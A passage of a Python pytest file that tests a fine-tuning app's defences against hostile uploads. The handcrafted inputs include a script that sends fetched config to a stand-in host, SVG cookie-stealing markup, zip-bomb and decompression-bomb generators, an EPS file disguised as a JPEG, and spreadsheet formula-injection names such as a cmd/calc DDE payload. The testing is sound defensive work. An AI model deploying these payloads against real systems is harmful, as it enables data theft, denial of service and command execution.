"""Hostile input, crafted by hand: each test builds what an attacker would send and asserts the safe outcome.

Zips with active riders and overlapping entries, racing extractions, a full disk, decompression-bomb
images, an EPS document named .jpg, and file and class names that are spreadsheet formulas.
Images that cost far more than their pixels (thousands of TIFF pages or JPEG scans, EXIF tags all
pointing at one block) and a FIFO named like an image.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import shutil
import struct
import subprocess
import sys
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from conftest import REPO, make_class_folders, make_image, needs_fifo, run_within, tree_digest
from PIL import Image

from finetune import data as data_module
from finetune.archive import MANIFEST, QuotaExceeded, check_zip, disk_usage, extract, extract_zip, read_extraction
from finetune.config import FinetuneError
from finetune.data import ImageTooLarge, check_image, check_images, load_rgb, scan_dataset

MB = 1024 * 1024


def zip_folder(folder: Path, out: Path, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, path.relative_to(folder).as_posix())
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out


def assert_nothing_written(dest: Path) -> None:
    assert not dest.exists() or not any(dest.iterdir()), sorted(p.name for p in dest.iterdir())


def assert_one_line_naming(error: pytest.ExceptionInfo, name: str) -> None:
    text = str(error.value)
    assert "\n" not in text and name in text, text


# ---------------------------------------------------------------------------------------------
# Zips: riders, overlapping entries, races, disk


def test_zip_with_html_svg_and_script_riders_extracts_only_images(tmp_path):
    data = make_class_folders(tmp_path / "src", per_class=3)
    riders = {
        "index.html": b"<script>fetch('/config').then(r => r.text()).then(t => location = 'http://x/?' + t)</script>",
        "cats/evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>',
        "dogs/app.js": b"alert(1)",
        "dogs/photo.png.html": b"<script>alert(2)</script>",
        "readme.txt": b"hello",
        "__MACOSX/cats/._img_0.png": b"appledouble",
        "__MACOSX/dogs/._img_0.png": b"appledouble",
        "cats/.DS_Store": b"junk",
    }
    archive = zip_folder(data, tmp_path / "riders.zip", riders)
    archive_sha = hashlib.sha256(archive.read_bytes()).hexdigest()
    result = extract(archive, tmp_path / "uploads")

    written = sorted(p.relative_to(result.folder).as_posix() for p in result.folder.rglob("*") if p.is_file())
    assert written == [MANIFEST] + [f"{c}/img_{i}.png" for c in ("cats", "dogs") for i in range(3)]
    skipped = dict(result.skipped)
    assert skipped == {
        "index.html": "not an image file",
        "cats/evil.svg": "not an image file",
        "dogs/app.js": "not an image file",
        "dogs/photo.png.html": "not an image file",
        "readme.txt": "not an image file",
        "__MACOSX/": "hidden or system folder",
        "cats/.DS_Store": "hidden or system file",
    }
    assert result.files == 6 and result.sha256 == archive_sha and not result.reused
    # the manifest keeps the report for whoever reuses the folder later
    again = read_extraction(result.root)
    assert again is not None and again.skipped == result.skipped and again.sha256 == archive_sha
    assert extract_zip(archive, tmp_path / "uploads") == result.root
    assert scan_dataset(result.root).classes == ["cats", "dogs"]
    assert hashlib.sha256(archive.read_bytes()).hexdigest() == archive_sha  # the upload is only read


def test_zip_of_riders_only_is_refused_by_name(tmp_path):
    archive = tmp_path / "site.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("index.html", "<script>alert(1)</script>")
        z.writestr("img/logo.svg", "<svg onload='alert(1)'/>")
    with pytest.raises(FinetuneError, match="no image files") as error:
        extract_zip(archive, tmp_path / "uploads")
    assert_one_line_naming(error, "site.zip")
    assert "index.html" in str(error.value)
    assert_nothing_written(tmp_path / "uploads")


def overlapping_zip(path: Path, count: int, block_parts, method: int) -> Path:
    """`count` central-directory entries that all point at one local entry: the CVE-2024-0450 shape.

    `block_parts` yields the raw bytes of the one shared entry (streamed, so a 100 MB block costs
    no memory here).
    """
    crc, raw_size = 0, 0
    packer = zlib.compressobj(9, zlib.DEFLATED, -15) if method == zipfile.ZIP_DEFLATED else None
    chunks = []
    for part in block_parts:
        crc, raw_size = zlib.crc32(part, crc), raw_size + len(part)
        chunks.append(packer.compress(part) if packer else part)
    if packer:
        chunks.append(packer.flush())
    payload = b"".join(chunks)
    names = [f"cats/{i:04d}.png".encode() for i in range(count)]
    local = (
        struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, len(payload), raw_size, len(names[0]), 0
        )
        + names[0]
    )
    central = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0x21,
            crc,
            len(payload),
            raw_size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
        for name in names
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local) + len(payload), 0)
    path.write_bytes(local + payload + central + end)
    return path


def stored_megabyte():
    yield random.Random(0).randbytes(MB)  # incompressible: every claimed ratio is 1:1


def deflated_hundred_to_one():
    """About 100 MB that deflates 100:1 to about 1 MB: under the per-entry ratio limit of 200:1."""
    rng = random.Random(1)
    for _ in range(900):
        yield rng.randbytes(1000) + bytes(109_000)


@pytest.mark.parametrize(
    "count, block, method",
    [
        (300, stored_megabyte, zipfile.ZIP_STORED),  # 300 MB from a 1 MB file, every ratio claimed 1:1
        (60, deflated_hundred_to_one, zipfile.ZIP_DEFLATED),  # 6 GB from a 1 MB file, 100:1 per entry
    ],
    ids=["stored", "deflated"],
)
def test_overlapping_entries_zip_is_refused(tmp_path, count, block, method):
    archive = overlapping_zip(tmp_path / "overlap.zip", count, block(), method)
    size = archive.stat().st_size
    assert size < 1.2 * MB
    with zipfile.ZipFile(archive) as z:  # Python's zipfile (3.11.7) takes it for a plain archive
        infos = z.infolist()
        assert len(infos) == count and sum(i.file_size for i in infos) > 250 * size
        assert all(i.file_size <= 200 * i.compress_size for i in infos)
    with pytest.raises(FinetuneError, match="zip bomb") as error:
        extract_zip(archive, tmp_path / "uploads")
    assert_one_line_naming(error, "overlap.zip")
    assert "on disk" in str(error.value)  # measured against the real file, not the claimed sizes
    assert_nothing_written(tmp_path / "uploads")
    # even with the ratio limits out of the way, entries that share their data are refused
    with pytest.raises(FinetuneError, match="overlap") as error:
        check_zip(archive, max_ratio=1e9, max_total_bytes=1 << 60)
    assert_one_line_naming(error, "overlap.zip")


def test_two_entries_sharing_one_block_are_refused_under_every_size_limit(tmp_path):
    archive = overlapping_zip(tmp_path / "twice.zip", 2, stored_megabyte(), zipfile.ZIP_STORED)
    with pytest.raises(FinetuneError, match="'cats/0000.png' and 'cats/0001.png' overlap") as error:
        extract_zip(archive, tmp_path / "uploads")
    assert_one_line_naming(error, "twice.zip")
    assert_nothing_written(tmp_path / "uploads")


def test_concurrent_extractions_of_one_zip_share_one_complete_folder(tmp_path):
    data = make_class_folders(tmp_path / "src", per_class=15, size=(200, 160))
    for i in range(4):  # larger files widen the window in which the extractions overlap
        (data / "cats" / f"noise_{i}.png").write_bytes(random.Random(i).randbytes(2 * MB))
    archive = zip_folder(data, tmp_path / "race.zip")
    expected = tree_digest(data)
    dest = tmp_path / "uploads"
    threads, results, errors = 6, [], []
    start = threading.Barrier(threads)

    def worker():
        try:
            start.wait()
            results.append(extract(archive, dest))
        except BaseException as error:  # noqa: BLE001 - reported below
            errors.append(error)

    pool = [threading.Thread(target=worker) for _ in range(threads)]
    for thread in pool:
        thread.start()
    for thread in pool:
        thread.join()
    assert not errors, errors
    assert len({r.root for r in results}) == 1
    root = results[0].root
    assert [p.name for p in dest.iterdir()] == [root.name]  # no partial or replaced folders left behind
    assert {k: v for k, v in tree_digest(root).items() if k != MANIFEST} == expected
    assert read_extraction(root).sha256 == hashlib.sha256(archive.read_bytes()).hexdigest()


def test_reuse_needs_a_manifest_with_the_full_sha256(tmp_path):
    data = make_class_folders(tmp_path / "src", per_class=2)
    archive = zip_folder(data, tmp_path / "d.zip")
    dest = tmp_path / "uploads"
    first = extract(archive, dest)
    manifest = first.folder / MANIFEST
    assert extract(archive, dest).reused

    # no marker, a marker from an older version (no hash) or a damaged one: extract again, in place
    # (a marker with another archive's hash is the collision case below)
    for marker in (None, "d.zip\n", manifest.read_text()[:40]):
        if marker is None:
            manifest.unlink()
        else:
            manifest.write_text(marker)
        (first.root / "cats" / "img_0.png").write_bytes(b"tampered")
        again = extract(archive, dest)
        assert not again.reused and again.folder == first.folder
        assert (again.root / "cats" / "img_0.png").read_bytes() == (data / "cats" / "img_0.png").read_bytes()
        assert [p.name for p in dest.iterdir()] == [first.folder.name]


def test_an_archive_whose_hash_prefix_collides_never_reuses_the_other(tmp_path):
    data = make_class_folders(tmp_path / "src", per_class=2)
    archive = zip_folder(data, tmp_path / "d.zip")
    dest = tmp_path / "uploads"
    sha = hashlib.sha256(archive.read_bytes()).hexdigest()
    # someone else's complete extraction under the same <name>-<12 hex> folder, e.g. a crafted collision
    other = dest / f"d-{sha[:12]}"
    make_class_folders(other, classes=("planted", "files"), per_class=1)
    (other / MANIFEST).write_text(json.dumps({"archive": "d.zip", "sha256": "f" * 64, "files": 2, "bytes": 1}))
    before = tree_digest(other)
    result = extract(archive, dest)
    assert result.folder == dest / f"d-{sha}" and scan_dataset(result.root).classes == ["cats", "dogs"]
    assert tree_digest(other) == before


def test_disk_quota_refuses_an_extraction_that_would_overfill_the_workspace(tmp_path):
    data = make_class_folders(tmp_path / "src", per_class=2)
    for i in range(3):
        (data / "dogs" / f"big_{i}.png").write_bytes(random.Random(i).randbytes(MB))
    archive = zip_folder(data, tmp_path / "big.zip")
    workspace = tmp_path / "workspace"
    (workspace / "predictions").mkdir(parents=True)
    (workspace / "predictions" / "old.csv").write_bytes(bytes(2 * MB))
    used = disk_usage(workspace)
    assert used >= 2 * MB
    with pytest.raises(QuotaExceeded, match=r"over its limit of 4\.2 MB") as error:
        extract(archive, workspace / "uploads", max_dest_bytes=4 * MB, quota_folder=workspace)
    assert_one_line_naming(error, "big.zip")
    assert error.value.used == used and error.value.need >= 3 * MB
    assert_nothing_written(workspace / "uploads")
    result = extract(archive, workspace / "uploads", max_dest_bytes=8 * MB, quota_folder=workspace)
    assert disk_usage(workspace) >= used + 3 * MB and result.files == 7


def test_disk_usage_counts_blocks_once_and_does_not_follow_links(tmp_path):
    assert disk_usage(tmp_path / "missing") == 0
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "f").write_bytes(bytes(100_000))
    os.link(tmp_path / "a" / "f", tmp_path / "a" / "hard")
    os.symlink("/", tmp_path / "a" / "root")
    usage = disk_usage(tmp_path / "a")
    assert 100_000 <= usage < 100_000 + 64 * 1024


# ---------------------------------------------------------------------------------------------
# Images: decompression bombs and formats chosen by content


def bomb_png(path: Path, width: int = 12000, height: int = 12000) -> Path:
    """A valid single-colour greyscale PNG of `width` x `height` (144 megapixels by default) in about
    140 KB, written row by row so making it costs no memory."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    packer = zlib.compressobj(9)
    row = bytes(width + 1)  # filter byte 0, then black pixels
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
    return path


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    return bomb_png(tmp_path_factory.mktemp("bomb") / "bomb.png")


def bomb_dataset(root: Path, bomb: Path, per_class: int) -> Path:
    make_class_folders(root, per_class=3)
    for name in ("cats", "dogs"):
        for i in range(per_class):
            shutil.copy(bomb, root / name / f"huge_{i}.png")
    return root


def test_bomb_png_is_skipped_and_named_without_decoding(tmp_path, bomb):
    assert bomb.stat().st_size < 400_000
    root = bomb_dataset(tmp_path / "d", bomb, per_class=1)
    before = tree_digest(root)
    scan = scan_dataset(root)
    reasons = dict(scan.skipped)
    assert set(reasons) == {"cats/huge_0.png", "dogs/huge_0.png"}
    assert reasons["cats/huge_0.png"] == "image too large: 144 megapixels, over the limit of 40 megapixels"
    assert "huge_0.png" in scan.report() and len(scan.train) + len(scan.val) == 6
    with pytest.raises(Image.DecompressionBombError, match="image too large"):
        load_rgb(root / "cats" / "huge_0.png")
    # PIL itself is held to the limit, for decoders outside the engine (the app's image upload)
    with pytest.raises(Image.DecompressionBombError):
        Image.open(bomb)
    assert tree_digest(root) == before


MEMORY_PROBE = """
import json, resource, sys
import sklearn.model_selection  # imported by the split: not part of what is measured
from finetune.data import scan_dataset
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
scan = scan_dataset(sys.argv[1])
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"growth_mb": (after - before) / 1024, "skipped": len(scan.skipped)}))
"""


@pytest.mark.slow
def test_scanning_many_bombs_keeps_peak_memory_bounded(tmp_path, bomb):
    root = bomb_dataset(tmp_path / "d", bomb, per_class=4)
    env = {k: v for k, v in os.environ.items() if k != "FINETUNE_MAX_PIXELS"}
    done = subprocess.run(
        [sys.executable, "-c", MEMORY_PROBE, str(root)], cwd=REPO, env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["skipped"] == 8
    # decoding even one of them would take 144 MB (greyscale) + 432 MB (RGB); eight in parallel, gigabytes
    assert result["growth_mb"] < 60, result
    print(f"peak memory grew by {result['growth_mb']:.1f} MB")


def test_parallel_decoding_holds_at_most_the_pixel_limit_at_once(tmp_path, monkeypatch):
    monkeypatch.setenv("FINETUNE_MAX_PIXELS", "1000000")
    root = tmp_path / "big"
    for i in range(8):
        make_image(root / f"{i}.png", (10 * i, 80, 160), size=(700, 700))  # 0.49 megapixels each
    peaks = []

    class Recording(data_module.PixelBudget):
        @data_module.contextmanager
        def hold(self, pixels):
            with super().hold(pixels):
                peaks.append(self.used)
                yield

    monkeypatch.setattr(data_module, "PixelBudget", Recording)
    assert check_images(root, [f"{i}.png" for i in range(8)], workers=8) == {}
    assert len(peaks) == 8 and max(peaks) <= 1_000_000


EPS = b"""%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 64 64
%%EndComments
(pwned) print
newpath 0 0 moveto 64 64 lineto stroke
showpage
%%EOF
"""


def test_eps_named_jpg_is_refused_without_ghostscript(tmp_path, monkeypatch):
    from PIL import EpsImagePlugin

    calls = []
    monkeypatch.setattr(EpsImagePlugin, "Ghostscript", lambda *args, **kwargs: calls.append(args) or 1 / 0)
    root = make_class_folders(tmp_path / "d", per_class=3)
    fake = root / "cats" / "holiday.jpg"
    fake.write_bytes(EPS)
    with Image.open(fake) as opened:  # what an unrestricted open does: EPS, whatever the name says
        assert opened.format == "EPS"
    before = tree_digest(root)
    assert check_image(fake) == "not a readable image"
    with pytest.raises(Image.UnidentifiedImageError):
        load_rgb(fake)
    assert dict(scan_dataset(root).skipped) == {"cats/holiday.jpg": "not a readable image"}
    assert calls == []
    assert tree_digest(root) == before


# ---------------------------------------------------------------------------------------------
# CSV injection


FORMULA_FILE = '=HYPERLINK("http://x","y").png'


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_prediction_csv_escapes_formula_names_and_keeps_numbers(tmp_path):
    from finetune.predict import Prediction, write_csv

    predictions = [
        Prediction(FORMULA_FILE, [("+cmd", 0.75), ("@SUM(1)", 0.2), ("-2+3", 0.05)]),
        Prediction("\t=1+1.png", error="=cannot decode"),
        Prediction("plain.png", [("cats", 1.0), ("dogs", 0.0), ("\rowls", 0.0)]),
    ]
    rows = read_rows(write_csv(predictions, tmp_path / "p.csv", top_k=3))
    assert rows[0] == [
        "path",
        "prediction",
        "best_guess",
        "confidence",
        "class_2",
        "probability_2",
        "class_3",
        "probability_3",
        "error",
    ]
    assert rows[1] == [
        "'" + FORMULA_FILE,
        "'+cmd",
        "'+cmd",
        "0.750000",
        "'@SUM(1)",
        "0.200000",
        "'-2+3",
        "0.050000",
        "",
    ]
    assert rows[2] == ["'\t'=1+1.png", "", "", "", "", "", "", "", "'=cannot decode"]
    assert rows[3] == ["plain.png", "cats", "cats", "1.000000", "dogs", "0.000000", "'\rowls", "0.000000", ""]


def test_evaluation_csvs_escape_formula_names_and_keep_numbers(tmp_path):
    from finetune.evaluate import compute_metrics, write_reports

    classes = ["+cmd", "@SUM(1)", "cats"]
    paths = [FORMULA_FILE, "=cmd|' /C calc'!A0.png", "a.png", "b.png"]
    targets = [0, 1, 2, 2]
    probs = [[0.1, 0.9, 0.0], [0.8, 0.2, 0.0], [0.0, 0.0, 1.0], [0.0, 0.3, 0.7]]
    metrics = compute_metrics(targets, probs, classes, paths)
    write_reports(tmp_path, metrics, prefix="test_")
    per_class = read_rows(tmp_path / "test_per_class.csv")
    assert per_class[0] == ["class", "precision", "recall", "f1", "support"]
    assert [row[0] for row in per_class[1:]] == ["'+cmd", "'@SUM(1)", "cats"]
    assert per_class[3] == ["cats", "1.0000", "1.0000", "1.0000", "2"]
    wrong = read_rows(tmp_path / "test_misclassified.csv")
    assert wrong[0] == ["path", "true", "predicted", "confidence"]
    assert wrong[1] == ["'" + FORMULA_FILE, "'+cmd", "'@SUM(1)", "0.900000"]
    assert wrong[2] == ["'=cmd|' /C calc'!A0.png", "'@SUM(1)", "'+cmd", "0.800000"]
    assert (tmp_path / "test_metrics.json").is_file() and (tmp_path / "test_confusion_matrix.png").is_file()


def test_a_formula_after_another_separator_is_escaped_too(tmp_path):
    """A spreadsheet that splits on ';' (German, French locales), tabs or '|' sees `a;=2+5;.png` as
    three cells, the second a formula: every cell such a split could start gets its '."""
    from finetune.csvfile import write_csv

    names = ["a;=2+5;.png", 'b; "@SUM(1)".png', "c|+1.png", "d\t-1.png", "e,=1.png", "f;g.png", "h-i=j.png"]
    rows = read_rows(write_csv(tmp_path / "x.csv", ["path"], [[name] for name in names]))
    for separator in ";|\t,":
        cells = [cell.strip(' "') for row in rows[1:] for cell in row[0].split(separator)]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), (separator, cells)
    assert [row[0] for row in rows[6:]] == ["f;g.png", "h-i=j.png"]  # nothing to escape: unchanged


def test_formula_file_and_class_names_from_a_real_folder(tmp_path):
    """The names come from the user's folder: a file and class folders named as formulas scan fine,
    the folder is not changed, and the CSV the app writes of them is escaped."""
    from finetune.predict import Prediction, write_csv

    on_disk = '=HYPERLINK("https:x.example","y").png'  # a file name cannot hold the "//"
    root = make_class_folders(tmp_path / "d", classes=("+cmd", "@SUM(1)"), per_class=3)
    make_image(root / "@SUM(1)" / on_disk)
    before = tree_digest(root)
    scan = scan_dataset(root)
    assert scan.classes == ["+cmd", "@SUM(1)"] and scan.skipped == []
    items = scan.train + scan.val
    assert f"@SUM(1)/{on_disk}" in [rel for rel, _ in items]
    predictions = [Prediction(Path(rel).name, [(scan.classes[label], 0.875)]) for rel, label in items]
    rows = read_rows(write_csv(predictions, tmp_path / "p.csv", top_k=1))
    assert ["'" + on_disk, "'@SUM(1)", "'@SUM(1)", "0.875000", ""] in rows
    assert all(row[1] in ("'+cmd", "'@SUM(1)") and row[3] == "0.875000" for row in rows[1:])
    assert tree_digest(root) == before


# ---------------------------------------------------------------------------------------------
# Folder trees nested deeper than Python's recursion limit, and names a terminal acts on


DEEP = 1_100  # levels: past the ~1,000 at which os.walk, shutil.rmtree and Path.rglob raise RecursionError


def png_bytes(colour=(10, 200, 30)) -> bytes:
    from io import BytesIO

    buffer = BytesIO()
    Image.new("RGB", (24, 20), colour).save(buffer, format="PNG")
    return buffer.getvalue()


def deep_tree(
    top: Path, levels: int = DEEP, name: str = "a", content: bytes | None = None, link_to: Path | None = None
) -> None:
    """top/a/a/.../a (`levels` folders) made relative to each folder's descriptor, so no path is
    ever longer than one name; an image at levels 3 and at the bottom, and a link to `link_to` there."""
    fd = os.open(top, os.O_RDONLY)
    try:
        for level in range(1, levels + 1):
            os.mkdir(name, dir_fd=fd)
            child = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = child
            if level in (3, levels):
                out = os.open(f"level{level}.png", os.O_WRONLY | os.O_CREAT | os.O_EXCL, dir_fd=fd)
                with open(out, "wb") as f:
                    f.write(content or png_bytes())
        if link_to is not None:
            os.symlink(link_to, "outside", dir_fd=fd)
    finally:
        os.close(fd)


@pytest.fixture
def deep_tmp(tmp_path):
    """tmp_path, removed at the end: pytest's own clean-up of old temporary folders uses
    shutil.rmtree, which a tree left 1,100 levels deep would break (RecursionError) for every later run."""
    from finetune.fsutil import remove_tree

    yield tmp_path
    remove_tree(tmp_path)


def deep_digest(root: Path) -> dict[str, str]:
    """tree_digest for a tree of any depth (Path.rglob recurses)."""
    from finetune.fsutil import walk

    found = {}
    for dirpath, _, filenames in walk(root):
        for name in filenames:
            path = Path(dirpath, name)
            if path.is_file():
                found[path.relative_to(root).as_posix()] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def one_line(error: pytest.ExceptionInfo) -> str:
    from finetune.names import unsafe_name_reason

    message = str(error.value)
    assert "\n" not in message and unsafe_name_reason(message) is None  # no raw control character in it
    return message


def test_zip_nested_1100_folders_deep_is_refused_before_anything_is_written(tmp_path):
    make_class_folders(tmp_path / "data")
    archive = zip_folder(tmp_path / "data", tmp_path / "deep.zip", extra={"cats/" + "a/" * DEEP + "x.png": png_bytes()})
    assert archive.stat().st_size < 100_000
    with pytest.raises(FinetuneError, match=r"nested 1102 levels deep \(at most 32") as error:
        check_zip(archive)
    assert "deep.zip" in one_line(error) and len(one_line(error)) < 300
    with pytest.raises(FinetuneError, match="levels deep"):
        extract(archive, tmp_path / "out")
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize(
    "entry, what",
    [
        ("cats/" + "n" * 296 + ".png", "a name of 300 bytes"),
        ("cats/" + "é" * 140 + ".png", "a name of 284 bytes"),  # bytes in UTF-8, not characters
        ("cats/" + "/".join(["d" * 200] * 6) + "/x.png", "a path of 1216 bytes"),
    ],
)
def test_zip_with_an_overlong_name_or_path_is_refused(tmp_path, entry, what):
    make_class_folders(tmp_path / "data")
    archive = zip_folder(tmp_path / "data", tmp_path / "long.zip", extra={entry: png_bytes()})
    with pytest.raises(FinetuneError, match=f"refusing entry with {what}") as error:
        check_zip(archive)
    one_line(error)


@pytest.mark.parametrize(
    "entry, shown",
    [
        ("cats/\x1b[2Jcleared.png", r"\x1b[2Jcleared.png"),
        ("cats/holiday\u202egnp.jpg", r"holiday\u202egnp.jpg"),  # shows as 'holidaygpj.png'
        ("ca\nts/a.png", r"ca\x0ats/a.png"),
        ("cats/a\u2066b.png", r"a\u2066b.png"),
        ("cats/a\x85b.png", r"a\x85b.png"),  # C1 control
    ],
)
def test_zip_entry_with_control_or_bidi_characters_is_refused_and_named_escaped(tmp_path, entry, shown):
    make_class_folders(tmp_path / "data")
    archive = zip_folder(tmp_path / "data", tmp_path / "names.zip", extra={entry: png_bytes()})
    with pytest.raises(FinetuneError, match="control characters") as error:
        extract(archive, tmp_path / "out")
    assert shown in one_line(error)
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_zip_skips_a_non_image_with_a_control_character_and_names_it_escaped(tmp_path):
    make_class_folders(tmp_path / "data")  # macOS puts 'Icon\r' in a folder with a custom icon
    archive = zip_folder(tmp_path / "data", tmp_path / "mac.zip", extra={"cats/Icon\r": b""})
    result = extract(archive, tmp_path / "out")
    assert result.files == 12 and ("cats/Icon\\x0d", "not an image file") in result.skipped
    assert not any("\r" in p.name for p in (result.root / "cats").iterdir())


@pytest.fixture
def deep_dataset(deep_tmp):
    """A dataset whose cats/ holds, among its images, a folder 1,100 levels deep (made on disk)."""
    root = make_class_folders(deep_tmp / "data")
    (deep_tmp / "elsewhere").mkdir()
    (deep_tmp / "elsewhere" / "keep.txt").write_text("not to be deleted")
    deep_tree(root / "cats", link_to=deep_tmp / "elsewhere")
    return root


def test_scanning_a_dataset_with_a_folder_1100_levels_deep(deep_dataset):
    from finetune.data import MAX_SCAN_DEPTH, TOO_DEEP, list_images, scan_labelled_folder

    before = deep_digest(deep_dataset)
    scan = scan_dataset(deep_dataset)
    used = {rel for rel, _ in scan.train + scan.val}
    assert "cats/a/a/a/level3.png" in used and len(used) == 13  # within the bound: an image of the class
    assert not any(rel.endswith(f"level{DEEP}.png") for rel in used)
    [(folder, reason)] = scan.skipped  # said once, for the folder where the walk stopped
    assert reason == TOO_DEEP and folder == "cats/" + "a/" * (MAX_SCAN_DEPTH + 1)
    _, items, skipped = scan_labelled_folder(deep_dataset, ["cats", "dogs"])
    assert len(items) == 13 and [why for _, why in skipped] == [TOO_DEEP]
    found: list = []
    assert len(list_images([deep_dataset], found)) == 13 and [why for _, why in found] == [TOO_DEEP]
    assert disk_usage(deep_dataset) > disk_usage(deep_dataset / "dogs")
    assert deep_digest(deep_dataset) == before


def test_workspace_measures_and_removes_an_old_upload_1100_levels_deep(deep_tmp):
    tmp_path = deep_tmp
    import time

    from finetune.studio.workspace import UNUSED_SECONDS, Workspace

    space = Workspace(tmp_path / "ws", quota_bytes=2 * 1024**3)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "keep.txt").write_text("not to be deleted")
    old = space.uploads / "old-0123456789ab"  # what a previous version extracted from a deep zip
    old.mkdir()
    deep_tree(old, link_to=tmp_path / "elsewhere")
    os.utime(old, (time.time() - 2 * UNUSED_SECONDS,) * 2)
    assert space.usage() > disk_usage(tmp_path / "elsewhere")
    make_class_folders(tmp_path / "data")
    archive = zip_folder(tmp_path / "data", tmp_path / "next.zip")
    extraction = space.extract_dataset(archive)  # the next upload: clean-up, quota, extraction
    assert extraction.files == 12 and not old.exists()
    assert (tmp_path / "elsewhere" / "keep.txt").read_text() == "not to be deleted"
    with space.temporary() as scratch:  # a batch's folder is removed however deep it grew
        deep_tree(scratch)
    assert not scratch.exists()


def test_remove_tree_reaches_past_path_max_and_never_follows_links(deep_tmp):
    tmp_path = deep_tmp
    from finetune.fsutil import remove_tree

    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "keep.txt").write_text("not to be deleted")
    top = tmp_path / "tree"
    top.mkdir()
    deep_tree(top, levels=600, name="d" * 12, content=b"x", link_to=tmp_path / "elsewhere")  # 7,800 bytes
    with pytest.raises(OSError):  # too long to name, even by the operating system
        os.stat(top.joinpath(*["d" * 12] * 600))
    (tmp_path / "link").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    assert remove_tree(tmp_path / "link") and (tmp_path / "elsewhere" / "keep.txt").exists()
    assert remove_tree(top) and not top.exists()
    assert (tmp_path / "elsewhere" / "keep.txt").read_text() == "not to be deleted"
    assert remove_tree(top)  # already gone: fine


def test_class_folder_named_with_an_escape_sequence_is_refused_and_named_escaped(tmp_path):
    from finetune.data import scan_labelled_folder

    root = make_class_folders(tmp_path / "data", classes=("cats", "\x1b[2J"))
    before = tree_digest(root)
    with pytest.raises(FinetuneError, match="control characters") as error:
        scan_dataset(root)
    assert r"class folder '\x1b[2J'" in one_line(error)
    with pytest.raises(FinetuneError, match=r"\\x1b\[2J"):
        scan_labelled_folder(root, ["cats", "\x1b[2J"])
    assert tree_digest(root) == before


def test_image_named_with_a_right_to_left_override_is_skipped_undecoded(tmp_path, monkeypatch):
    from finetune.data import list_images

    root = make_class_folders(tmp_path / "data")
    make_image(root / "cats" / "holiday\u202egnp.jpg", fmt="PNG")  # shows as 'holidaygpj.png'
    (root / "cats" / "photo\u202egpj.exe").write_bytes(b"MZ")  # shows as 'photoexe.jpg': not an image
    (root / "dogs" / "tab\there").mkdir()
    make_image(root / "dogs" / "tab\there" / "a.png")
    before = tree_digest(root)
    decoded = []
    check = data_module.check_images
    monkeypatch.setattr(data_module, "check_images", lambda r, rels, **kw: decoded.extend(rels) or check(r, rels, **kw))
    scan = scan_dataset(root)
    assert dict(scan.skipped) == {
        r"cats/holiday\u202egnp.jpg": "name contains bidirectional control characters",
        r"dogs/tab\x09here/": "name contains control characters",
    }
    assert len(decoded) == 12 and not any("\u202e" in rel or "\t" in rel for rel in decoded)
    assert "\u202e" not in scan.report() and "\t" not in scan.report()
    found: list = []
    assert len(list_images([root, root / "cats" / "holiday\u202egnp.jpg"], found)) == 12 and len(found) == 3
    assert tree_digest(root) == before


def test_classes_differing_only_in_case_or_normalisation_are_kept_apart_with_a_warning(tmp_path):
    import unicodedata

    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
    root = make_class_folders(tmp_path / "data", classes=("cat", "Cat", nfc, nfd, "dog"))
    before = tree_digest(root)
    scan = scan_dataset(root)
    assert len(scan.classes) == 5 and set(scan.classes) == {"cat", "Cat", nfc, nfd, "dog"}
    case = [w for w in scan.warnings if "letter case" in w]
    accents = [w for w in scan.warnings if "normalisation" in w]
    assert len(case) == 1 and "'Cat'" in case[0] and "'cat'" in case[0]
    assert len(accents) == 1 and r"'caf\xe9'" in accents[0] and r"'cafe\u0301'" in accents[0]
    assert tree_digest(root) == before
    # a zero-width space pasted into a label: the two print the same
    hidden = scan_dataset(make_class_folders(tmp_path / "d2", classes=("owl", "owl\u200b"))).warnings
    assert any("invisible characters" in w and r"'owl\u200b'" in w and "'owl'" in w for w in hidden), hidden


# ---------------------------------------------------------------------------------------------
# Inputs that cost far more than their pixels, and files that are not files


def many_page_tiff(pages: int) -> bytes:
    """A valid TIFF of `pages` 1 x 1 grey pages (PIL's save_all takes minutes for thousands)."""
    entries = [
